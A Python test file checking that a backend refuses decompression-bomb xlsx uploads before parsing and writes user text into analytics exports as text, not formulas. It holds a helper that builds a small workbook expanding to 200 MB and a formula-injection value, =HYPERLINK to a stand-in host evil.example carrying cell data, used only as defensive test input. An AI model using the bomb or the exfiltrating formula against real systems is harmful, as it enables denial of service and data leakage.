"""Uploaded workbooks and exports (issue 14): a decompression bomb (a cell of 200 MB in a file of a few hundred KB)
is refused before it is parsed, with the server's memory growing by less than 100 MB (without the check: about
twice the bomb's size); user text in an export is text, never a formula."""

from __future__ import annotations

import io
import tracemalloc
import zipfile

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from backend.accounts.models import Role
from backend.kit import xlsx
from backend.kit.errors import InvalidInput
from backend.quizzes import excel
from backend.quizzes.analytics import CourseAnalytics
from tests.api.helpers import login
from tests.factories import make_user
from tests.people.helpers import csrf

MB = 1024 * 1024
BOMB_MB = 200


def bomb(megabytes: int = BOMB_MB, header: tuple[str, ...] = ("题型", "题干", "答案")) -> bytes:
    """A real workbook (openpyxl opens it) one of whose cells expands to `megabytes` MB: a few hundred KB on disk."""
    book = Workbook()
    book.active.append(list(header))
    book.active.append(["单选", "X", "A"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for entry in source.infolist():
            if entry.filename != "xl/worksheets/sheet1.xml":
                z.writestr(entry, source.read(entry))
                continue
            before, after = source.read(entry).split(b"<t>X</t>")
            with z.open(entry.filename, "w") as fh:
                fh.write(before + b"<t>")
                block = b"A" * MB
                for _ in range(megabytes):
                    fh.write(block)
                fh.write(b"</t>" + after)
    return out.getvalue()


@pytest.fixture(scope="module")
def the_bomb() -> bytes:
    data = bomb()
    assert len(data) < 1 * MB  # small on the wire
    return data


def _peak_mb(fn) -> float:  # type: ignore[no-untyped-def]
    tracemalloc.start()
    try:
        fn()
        return tracemalloc.get_traced_memory()[1] / MB
    finally:
        tracemalloc.stop()


def test_a_roster_bomb_is_refused_before_parsing_and_memory_stays_small(client: TestClient, session, the_bomb) -> None:
    login(client, make_user(session, Role.school_admin, school_code="S-A").username)
    token = csrf(client.get("/admin/teachers/import").text)
    answers = []

    def post() -> None:
        answers.append(client.post("/admin/teachers/import", data={"csrf_token": token},
                                   files={"file": ("名单.xlsx", the_bomb)}))  # fmt: skip

    assert _peak_mb(post) < 100
    assert answers[0].status_code == 422


def test_a_question_bank_bomb_is_refused_before_parsing_and_memory_stays_small(the_bomb) -> None:
    def parse() -> None:
        with pytest.raises(InvalidInput) as refused:
            excel.parse_questions(io.BytesIO(the_bomb))
        assert "file" in refused.value.fields

    assert _peak_mb(parse) < 100


def test_an_ordinary_workbook_passes_the_check_and_is_rewound() -> None:
    stream = io.BytesIO(excel.template_workbook())
    xlsx.check_expansion(stream)
    assert stream.tell() == 0 and len(excel.parse_questions(stream)) == 5


def test_user_text_in_the_analytics_export_is_written_as_text_not_a_formula() -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    data = CourseAnalytics(course_id=1, title=title, enrolled=0, completed=0, graded_attempts=0)
    book = load_workbook(io.BytesIO(excel.analytics_workbook(data)))
    cell = book["概况"]["B2"]
    assert cell.value == title and cell.data_type == "s"
